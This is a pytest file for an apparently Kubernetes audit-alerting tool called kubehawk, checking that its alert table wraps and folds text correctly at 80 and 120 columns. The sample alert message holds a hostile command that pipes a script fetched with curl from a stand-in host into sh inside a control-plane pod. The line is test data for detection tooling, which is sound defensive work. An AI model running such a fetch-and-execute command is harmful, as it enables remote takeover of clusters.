"""The alert table rendered by rich at 80 and 120 columns: nothing a person needs is cut."""

from __future__ import annotations

import io

import pytest
from rich.console import Console

from kubehawk.alerts import Alert
from kubehawk.alerttable import GAP, fold, layout, print_alert, print_table
from kubehawk.event import event_from_dict
from test_alerts import FakeMatch, FakeRule

from helpers import audit

SA = "system:serviceaccount:kube-system:replicaset-controller"
MESSAGE = ("system:serviceaccount:kube-system:replicaset-controller opened a shell (bash -c 'curl -s "
           "http://203.0.113.9/x.sh | sh') in kube-system/etcd-control-plane-node-1, a control-plane pod, "
           "from 203.0.113.5")


def _alerts() -> list[Alert]:
    exec_ev = audit(user={"username": SA}, verb="create", sourceIPs=["203.0.113.5"],
                    objectRef={"resource": "pods", "subresource": "exec", "namespace": "kube-system",
                               "name": "etcd-control-plane-node-1"})
    short = audit(user={"username": "bob"}, verb="patch",
                  objectRef={"resource": "configmaps", "namespace": "web", "name": "search-config"})
    rule = FakeRule(title="Shell opened in a control-plane pod by a ServiceAccount", message_template=MESSAGE)
    return [Alert.from_match(FakeMatch(rule, event_from_dict(exec_ev, "audit.log:12"))),
            Alert.from_match(FakeMatch(FakeRule(title="ConfigMap changed by a person", level="low"),
                                       event_from_dict(short)))]


def render(width: int, alerts: list[Alert], evidence: bool = False) -> list[str]:
    out = io.StringIO()
    print_table(Console(file=out, width=width, color_system=None), alerts, evidence=evidence)
    return out.getvalue().splitlines()


def column(lines: list[str], start: int, width: int) -> str:
    """The text of one column of a row, its folded lines joined back."""
    return "".join(line[start:start + width].strip() for line in lines)


@pytest.mark.parametrize("width", [80, 120])
def test_identity_and_object_are_whole_and_the_message_wraps_under_the_row(width):
    alerts = _alerts()
    lines = render(width, alerts)
    assert all(len(line.rstrip()) <= width for line in lines)
    assert "…" not in "\n".join(lines)
    lay = layout(width, alerts)
    assert lay.who >= 20 and lay.object >= 20  # never three letters
    who_at = lay.indent + lay.rule + GAP
    obj_at = who_at + lay.who + GAP
    row = lines[3:3 + [i for i, line in enumerate(lines[3:]) if line.startswith(" " * lay.indent + "system:")][0]]
    assert column(row, who_at, lay.who).startswith(SA + "203.0.113.5")
    assert column(row, obj_at, lay.object) == "pods/execkube-system/etcd-control-plane-node-1"
    # The message: under the row, from the rule column's left edge, wrapped at the full width.
    msg = [line for line in lines if line.startswith(" " * lay.indent + "system:")][0]
    start = lines.index(msg)
    body = []
    for line in lines[start:]:
        if not line.strip():
            break
        body.append(line.strip())
    assert " ".join(body) == MESSAGE
    assert len(body) <= len(MESSAGE) // (width - lay.indent - 10) + 1  # not squeezed into a column


def test_at_120_the_time_has_its_own_column_and_at_80_it_sits_under_the_level():
    wide, narrow = render(120, _alerts()), render(80, _alerts())
    assert "time (UTC)" in wide[1] and "2026-11-23 10:00:00" in wide[3]
    assert "time" not in narrow[1] and narrow[4].startswith("2026-11-23") and narrow[5].startswith("10:00:00")


def test_evidence_shows_the_origin_under_the_message():
    lines = render(120, _alerts()[:1], evidence=True)
    assert any(line.strip() == "audit.log:12" for line in lines)


def test_a_streamed_alert_is_the_same_row_and_message():
    out = io.StringIO()
    print_alert(Console(file=out, width=80, color_system=None), _alerts()[0])
    lines = out.getvalue().splitlines()
    assert all(len(line.rstrip()) <= 80 for line in lines)
    lay = layout(80)
    who_at = lay.indent + lay.rule + GAP
    assert column(lines[:4], who_at, lay.who) == SA + "203.0.113.5"
    assert " ".join(line.strip() for line in lines[5:] if line.strip()) == MESSAGE


def test_fold_breaks_after_separators_and_never_drops_a_letter():
    assert fold(SA, 24).split("\n") == ["system:serviceaccount:", "kube-system:replicaset-", "controller"]
    assert fold("x" * 50, 20).split("\n") == ["x" * 20, "x" * 20, "x" * 10]
    assert fold("short", 20) == "short"
